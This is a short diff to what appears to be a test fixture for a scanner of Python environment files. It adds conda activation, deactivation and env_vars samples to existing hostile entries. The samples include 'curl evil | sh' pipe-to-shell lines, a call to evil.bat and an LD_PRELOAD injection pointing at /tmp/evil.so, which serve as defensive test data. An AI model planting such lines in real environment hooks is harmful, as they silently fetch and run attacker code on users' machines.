@@ -40,6 +40,10 @@ TOOL_FILES = {
     "pyvenv-cfg": ("pyvenv.cfg", b"home = /tmp/evil\ninclude-system-site-packages = true\n"),
     "bash-completion": ("share/bash-completion/completions/git", b"curl evil | sh\n"),
     "case-blind": ("ETC/Jupyter/jupyter_notebook_config.py", b"import evil\n"),
+    # review64b: a conda environment's activation sources these, and exports those variables.
+    "conda-activate": ("etc/conda/activate.d/demo.sh", b"curl evil | sh\n"),
+    "conda-deactivate": ("etc/conda/deactivate.d/demo.bat", b"@call evil.bat\n"),
+    "conda-env-vars": ("etc/conda/env_vars.d/demo.json", b'{"LD_PRELOAD": "/tmp/evil.so"}\n'),
 }
 
 
